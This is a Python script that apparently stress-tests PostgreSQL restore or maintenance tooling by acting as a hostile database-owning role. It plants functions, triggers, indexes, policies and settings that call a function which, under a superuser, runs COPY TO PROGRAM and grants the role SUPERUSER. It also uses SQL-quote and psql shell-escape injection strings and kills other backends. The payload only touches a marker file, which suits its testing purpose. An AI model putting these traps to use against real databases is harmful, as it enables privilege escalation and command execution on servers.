"""The application's role, which owns its database, in somebody else's hands: does there and in what a restore builds beside it what it can,
at random moments, until it is ended.

hostile-role.py DATABASE MARK: connects as libpq's variables say. MARK is a file that the server makes where a superuser runs what is planted.
"""
import os, random, subprocess, sys, time

database, mark = sys.argv[1:]
role = os.environ['PGUSER']
wanted = f"ALTER ROLE {role} SUPERUSER"
# What is pasted into a statement, a script of psql or a list of settings.
words = [
    f"x'; {wanted}; --", f'x"; {wanted}; --', f"x, {wanted}", f"$$; {wanted}; $$", f"\\! touch {mark}", f"x\n\\! touch {mark}\n",
    f"x\\'; {wanted}; --", f"E'\\x27; {wanted}; --", f"x'); {wanted}; --",
]


def literal(text):
    return "E'" + text.replace('\\', '\\\\').replace("'", "\\'") + "'"


def identifier(text):
    return '"' + text.replace('"', '""')[:60] + '"'


def word():
    return random.choice(words)


def setup():
    return f"""
      CREATE OR REPLACE FUNCTION public.evil() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.gain(); RETURN NEW; END $$;
      CREATE OR REPLACE FUNCTION public.gain() RETURNS int LANGUAGE plpgsql AS $$ BEGIN
        IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
          COPY (SELECT 1) TO PROGRAM 'touch {mark}'; {wanted};
        END IF; RETURN 1; EXCEPTION WHEN OTHERS THEN RETURN 1; END $$;
      CREATE OR REPLACE FUNCTION public.gain(v int) RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT public.gain()';
      CREATE OR REPLACE FUNCTION public.gain(v text) RETURNS bool IMMUTABLE LANGUAGE sql AS 'SELECT public.gain() = 1';"""


def planted():
    name = identifier(random.choice(['t', 'u', word()]))
    return random.choice([
        f"CREATE TABLE {name} (id int DEFAULT public.gain(), v text); INSERT INTO {name} VALUES (1, {literal(word())})",
        f"DROP TABLE IF EXISTS {name} CASCADE", f"DROP VIEW IF EXISTS {name} CASCADE",
        f"ALTER TABLE {name} RENAME TO {identifier('h' + str(random.randrange(9)))}",
        f"CREATE VIEW {name} AS SELECT public.gain() AS id, 'x'::text AS v",
        f"CREATE MATERIALIZED VIEW {name} AS SELECT public.gain() AS id",
        f"CREATE TRIGGER {identifier(word())} BEFORE INSERT ON {name} FOR EACH ROW EXECUTE FUNCTION public.evil()",
        f"CREATE RULE r AS ON INSERT TO {name} DO ALSO SELECT public.gain()",
        f"CREATE INDEX ON {name} (public.gain(id))", f"CREATE INDEX ON {name} (id) WHERE public.gain(2) = 2",
        f"ALTER TABLE {name} ADD CHECK (public.gain(v))", f"ALTER TABLE {name} ADD g int GENERATED ALWAYS AS (public.gain(id)) STORED",
        f"CREATE STATISTICS {identifier(word())} ON (public.gain(id)), id FROM {name}",
        f"ALTER TABLE {name} ENABLE ROW LEVEL SECURITY; ALTER TABLE {name} FORCE ROW LEVEL SECURITY;"
        f" CREATE POLICY p ON {name} USING (public.gain(v))",
        f"CREATE DOMAIN {identifier(word())} AS int CHECK (public.gain(VALUE) = 1)",
        f"CREATE SCHEMA {identifier(word())}", f"CREATE SEQUENCE {identifier(word())}", f"CREATE TYPE {identifier(word())} AS ENUM ('a')",
        f"COMMENT ON TABLE {name} IS {literal(word())}", f"SELECT lo_create(0)", f"CREATE PUBLICATION {identifier(word())} FOR TABLE {name}",
        "CREATE FUNCTION public.sum(numeric) RETURNS numeric LANGUAGE sql AS 'SELECT public.gain()::numeric'",
        "CREATE FUNCTION public.format(text, name) RETURNS text LANGUAGE sql AS 'SELECT public.gain()::text'",
        "CREATE OPERATOR public.= (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)",
    ])


def stored():
    setting = random.choice(['search_path', 'my.word', 'DateStyle', 'temp_tablespaces', 'local_preload_libraries', 'application_name'])
    to = random.choice([f"ROLE {role}", f"DATABASE {database}", f"ROLE {role} IN DATABASE {database}", 'FUNCTION public.gain()'])
    return random.choice([
        f"SELECT set_config('{setting}', {literal(word())}, false); ALTER {to} SET {setting} FROM CURRENT",
        f"ALTER {to} SET search_path = public, pg_catalog", f"ALTER {to} SET {setting} = {literal(word())}", f"ALTER {to} RESET ALL",
        f"ALTER DATABASE {database} SET role = {role}", f"ALTER DATABASE {database} SET session_authorization = {role}",
        f"COMMENT ON DATABASE {database} IS {literal(word())}",
        f"GRANT ALL ON DATABASE {database} TO public", f"REVOKE ALL ON DATABASE {database} FROM public",
        f"ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public", f"ALTER DATABASE {database} CONNECTION LIMIT {random.choice([-1, 0, 3])}",
    ])


def held():
    return random.choice([
        "BEGIN; LOCK TABLE public.t; SELECT pg_sleep(0.3); COMMIT", "BEGIN; TRUNCATE public.t; SELECT pg_sleep(0.2); ROLLBACK",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
        f"SET ROLE postgres; {wanted}", f"SET SESSION AUTHORIZATION postgres; {wanted}", "SELECT public.gain()",
        f"ALTER DATABASE {identifier(target)} OWNER TO {role}", f"ALTER DATABASE {identifier(target)} CONNECTION LIMIT -1",
        f"GRANT CONNECT ON DATABASE {identifier(target)} TO public",
    ])


def ask(database, *statements):
    command = ['psql', '-XAtq', '-d', database] + [part for text in statements for part in ('-c', text)]
    return subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True).stdout


target = database
while True:
    # The live database, and what bears its name: staging, kept, a drill's.
    names = ask('postgres', f"SELECT datname FROM pg_database WHERE datname LIKE '{database}%'").split('\n')[:-1]
    target = random.choice([database] + names)
    ask(random.choice([database, target]), 'SET statement_timeout = 2000', setup(), *[random.choice([planted, planted, stored, held])() for _ in range(6)])
    time.sleep(random.choice([0, 0, 0.05]))
